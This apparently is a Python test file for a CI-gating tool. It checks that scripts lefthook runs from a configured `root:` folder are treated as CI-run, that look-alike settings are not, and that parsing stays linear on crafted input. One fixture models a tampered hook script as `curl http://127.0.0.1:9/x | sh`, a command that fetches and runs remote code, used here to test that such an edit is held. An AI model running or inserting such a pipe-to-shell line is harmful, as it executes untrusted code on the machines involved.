"""Misses 10: lefthook runs a command with `root: DIR` from that folder (lefthookroots.py), so a settings file CI runs
(`lefthook run pre-commit`) with `root: frontend/` and `run: ./scripts/lint.sh` runs `frontend/scripts/lint.sh`. On
be985d92 the walk read the command from the settings file's folder only: the script stayed `src`, an edit exit 0.
Look-alikes: a root out of the tree, a variable root, a settings file CI does not run, another tool's `root:`."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify import lefthookroots

SETTINGS = [("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      root: {root}\n      run: {run}\n"),
            (".lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      root: \"{root}\"\n      run: {run}\n"),
            ("lefthook.yaml", "pre-commit:\n  jobs:\n    - name: lint\n      root: '{root}'\n      run: {run}\n"),
            ("lefthook.toml", "[pre-commit.commands.lint]\nroot = \"{root}\"\nrun = \"{run}\"\n"),
            ("lefthook.json", "{{\"pre-commit\": {{\"commands\": {{\"lint\": {{\"root\": \"{root}\", "
                              "\"run\": \"{run}\"}}}}}}}}\n")]
ROOTS = [("frontend/", "frontend"), ("frontend", "frontend"), ("packages/web/", "packages/web"),
         ("./app", "app")]
RUNS = [("./scripts/lint.sh", "scripts/lint.sh"), ("bash scripts/check.sh {{staged_files}}", "scripts/check.sh")]
CI = ["npx lefthook run pre-commit", "lefthook run pre-commit --all-files"]


@each_case("settings, text, script, ci", [
    (name, form.format(root=root, run=run), f"{folder}/{script}", ci)
    for name, form in SETTINGS for root, folder in ROOTS for run, script in RUNS for ci in CI])
def test_a_script_a_lefthook_command_runs_from_its_root_is_ci(settings: str, text: str, script: str,
                                                              ci: str) -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=ci), settings: text, script: "#!/bin/sh\n",
             "package.json": "{}\n"}
    assert script in tree_runs(files), (settings, text)  # before: 80/80 missed


@each_case("settings, text, script, ci", [
    ("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      root: ../elsewhere\n      run: ./s.sh\n",
     "elsewhere/s.sh", "lefthook run pre-commit"),
    ("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      root: /abs/web\n      run: ./s.sh\n",
     "abs/web/s.sh", "lefthook run pre-commit"),
    ("lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      root: web\n      run: ./s.sh\n", "web/s.sh",
     "echo lefthook"),
    (".prettierrc.yml", "root: web\noverrides: ./s.sh\n", "web/s.sh", "npx prettier --check ."),
])
def test_look_alikes_keep_their_bucket(settings: str, text: str, script: str, ci: str) -> None:
    files = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=ci), settings: text, script: "#!/bin/sh\n"}
    assert script not in tree_runs(files), text


def test_an_edit_of_a_rooted_hook_script_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="npx lefthook run pre-commit --all-files"),
            "lefthook.yml": "pre-commit:\n  commands:\n    lint:\n      root: web/\n      run: ./bin/lint.sh\n",
            "web/bin/lint.sh": "#!/bin/sh\nnpm run lint\n", "package.json": "{}\n"}
    case = committed(tmp_path, base, {"web/bin/lint.sh": "#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["web/bin/lint.sh"]), named  # before: exit 0


@each_case("hostile", [repeated("      root: web\n"), repeated("root = \"", "", "\n"), repeated("root:" * 8 + "\n")])
def test_hostile_settings_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    assert_linear(lambda text: lefthookroots.roots("lefthook.yml", text), hostile, budget=0.5)
